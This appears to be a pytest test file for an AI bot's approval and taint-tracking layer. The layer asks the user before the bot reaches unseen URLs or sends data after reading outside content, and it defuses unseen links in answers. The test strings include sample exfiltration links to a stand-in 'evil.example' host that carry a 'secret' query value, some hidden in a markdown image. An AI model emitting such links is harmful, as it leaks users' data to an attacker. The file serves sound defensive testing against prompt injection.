"""Which calls need the asker, by what the answer has read."""

import pytest

from bot.tools.approval import Reason, approval_for, reason_to_ask
from bot.tools.definition import Arguments, Output, Tool
from bot.tools.rendering import Quiet
from bot.tools.taint import Taint


async def run(arguments: Arguments) -> Output:
    return Output("")


def tool(**fields: object) -> Tool:
    return Tool("tool", "", {}, run, **fields)  # type: ignore[arg-type]


OPEN = tool(addresses=lambda arguments: [arguments["id"]])
SEARCH = tool(sends_words=True)
SEEN = "see https://example.org/page, and (http://a.example/x?y=1)."


@pytest.mark.parametrize(
    ("url", "reason"),
    [
        ("https://example.org/page", None),
        ("HTTPS://EXAMPLE.org/page#part", None),
        ("http://a.example/x?y=1", None),
        ("https://example.org/pag", Reason.ADDRESS),
        ("https://example.org/page?d=secret", Reason.ADDRESS),
        ("https://example.org/", Reason.ADDRESS),
        ("https://secret.evil.example/page", Reason.ADDRESS),
        ("http://example.org/page", Reason.ADDRESS),
    ],
)
def test_only_an_address_that_was_seen_to_the_last_sign_is_reached_after_others_were_read(
    url: str, reason: Reason | None
) -> None:
    taint = Taint([SEEN], tainted=False)
    assert reason_to_ask(OPEN, {"id": url}, taint) is None
    taint.read()
    assert reason_to_ask(OPEN, {"id": url}, taint) is reason


def test_words_leave_freely_until_a_page_was_read() -> None:
    taint = Taint([], tainted=False)
    assert reason_to_ask(SEARCH, {}, taint) is None
    taint.read(results=True)
    assert reason_to_ask(SEARCH, {}, taint) is None
    taint.read()
    assert reason_to_ask(SEARCH, {}, taint) is Reason.WORDS
    assert reason_to_ask(SEARCH, {}, Taint([], tainted=True)) is Reason.WORDS


def test_what_writes_asks_as_it_is_set_and_always_after_others_were_read() -> None:
    clean, tainted = Taint([], tainted=False), Taint([], tainted=True)
    assert reason_to_ask(tool(writes=True, approve="writes"), {}, clean) is Reason.WRITES
    assert reason_to_ask(tool(writes=True, approve="never"), {}, clean) is None
    assert reason_to_ask(tool(writes=True, approve="never"), {}, tainted) is Reason.WRITES
    assert reason_to_ask(tool(approve="always"), {}, clean) is Reason.ALWAYS
    assert reason_to_ask(tool(approve="writes"), {}, tainted) is None


def test_an_approval_is_of_one_call_with_its_arguments() -> None:
    def key(id: str, arguments: Arguments) -> str:
        return approval_for(id, OPEN, arguments, Reason.ADDRESS).key

    assert key("1", {"a": 1, "b": 2}) == key("1", {"b": 2, "a": 1})
    assert len({key("1", {"a": 1}), key("2", {"a": 1}), key("1", {"a": 2})}) == 3


@pytest.mark.parametrize("size", [1, 3, 1000])
def test_an_address_that_nobody_saw_is_code_and_a_picture_is_none(size: int) -> None:
    taint = Taint([SEEN], tainted=True)
    quiet = Quiet(taint)
    text = (
        "Look ![x](https://evil.example/?d=secret) or [here](https://evil.example/a_b), at"
        " https://evil.example/?d=secret. Seen: [page](https://example.org/page),"
        " https://example.org/page. Not a link: [1] a! `https://evil.example/c`"
    )
    shown = "".join(quiet.add(text[at : at + size]) for at in range(0, len(text), size))
    assert shown + quiet.rest() == (
        "Look x (`https://evil.example/?d=secret`) or here (`https://evil.example/a_b`), at"
        " `https://evil.example/?d=secret`. Seen: [page](https://example.org/page),"
        " https://example.org/page. Not a link: [1] a! `https://evil.example/c`"
    )


def test_a_clean_answer_is_left_as_it_is() -> None:
    quiet = Quiet(Taint([], tainted=False))
    text = "![x](https://a.example/b) https://c.example"
    assert quiet.add(text) == text
